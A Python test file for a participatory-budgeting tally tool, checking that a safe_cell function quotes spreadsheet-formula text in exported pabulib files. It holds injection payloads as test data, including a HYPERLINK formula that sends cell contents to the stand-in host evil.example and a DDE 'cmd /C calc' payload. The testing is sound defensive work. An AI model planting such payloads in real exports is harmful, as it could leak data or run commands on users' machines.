"""safe_cell: text a spreadsheet would read as a formula gets a leading quote; numbers never change."""
from __future__ import annotations

import io

import pytest

from pb.domain.spreadsheet import needs_quote, safe_cell
from pb.tally import Election, Project, RankPoints, count, read_pabulib, write_pabulib

EVIL_TITLE = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


@pytest.mark.parametrize("text", [
    EVIL_TITLE,
    "=1+1",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "-",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\tTab first",
    "  =1+1",
    "-5 trees for the park",
])
def test_formula_like_text_gets_a_leading_quote(text):
    assert needs_quote(text)
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("text", [
    "Community lunch club",
    "Tea dance = fun",
    "A+B club",
    "email@example.org",
    "'=already quoted",
    "",
    " ",
    "2024",
])
def test_ordinary_text_is_unchanged(text):
    assert not needs_quote(text)
    assert safe_cell(text) == text


@pytest.mark.parametrize("value", [-5, -12.5, 0, 3, 2.25, None, True])
def test_non_text_values_are_returned_as_they_are(value):
    assert safe_cell(value) is value


@pytest.mark.parametrize("text", ["-5", "-12.50", "+3", "+3.25", "-1,5", "0"])
def test_plain_numbers_written_as_text_stay_numbers(text):
    assert not needs_quote(text)
    assert safe_cell(text) == text


def test_quoting_twice_adds_one_quote_only():
    assert safe_cell(safe_cell(EVIL_TITLE)) == "'" + EVIL_TITLE


def _election() -> Election:
    projects = [Project("1", 400, name=EVIL_TITLE), Project("2", 300, name="  -2+3"),
                Project("3", 500, name="Lunch club")]
    ballots = [["1", "3"], ["3", "1", "2"], ["2"], ["3"], ["1", "2"]]
    return Election(projects=projects, budget=900, ballots=ballots, max_length=3)


@pytest.mark.parametrize("rule", ["greedy", "equal-shares"])
def test_pabulib_writer_applies_safe_cell_to_text_and_still_recounts(rule):
    election = _election()
    points = RankPoints.descending(3)
    outcome = count(election, rule, satisfaction=points, tie_break="cost-score-id")
    out = io.StringIO()
    write_pabulib(election, out, satisfaction=points, outcome=outcome, text_cell=safe_cell,
                  meta={"description": "@SUM(A1)", "unit": "Hackney", "comment": "-5 trees"})
    data = read_pabulib(io.StringIO(out.getvalue(), newline=""))
    assert data.project_meta["1"]["name"] == "'" + EVIL_TITLE
    assert data.project_meta["2"]["name"] == "'-2+3"  # line breaks and edge spaces go first, then the quote
    assert data.project_meta["3"]["name"] == "Lunch club"
    assert data.meta["description"] == "'@SUM(A1)" and data.meta["unit"] == "Hackney"
    assert data.meta["comment"] == "'-5 trees"
    assert sorted(data.selected) == sorted(outcome.funded)
    again = count(data.election, rule, satisfaction=data.satisfaction, tie_break="cost-score-id")
    assert again.funded == outcome.funded and again.cost == outcome.cost


def test_pabulib_writer_without_text_cell_writes_text_as_given():
    election = _election()
    out = io.StringIO()
    write_pabulib(election, out, satisfaction=RankPoints.descending(3))
    assert read_pabulib(io.StringIO(out.getvalue(), newline="")).project_meta["1"]["name"] == EVIL_TITLE
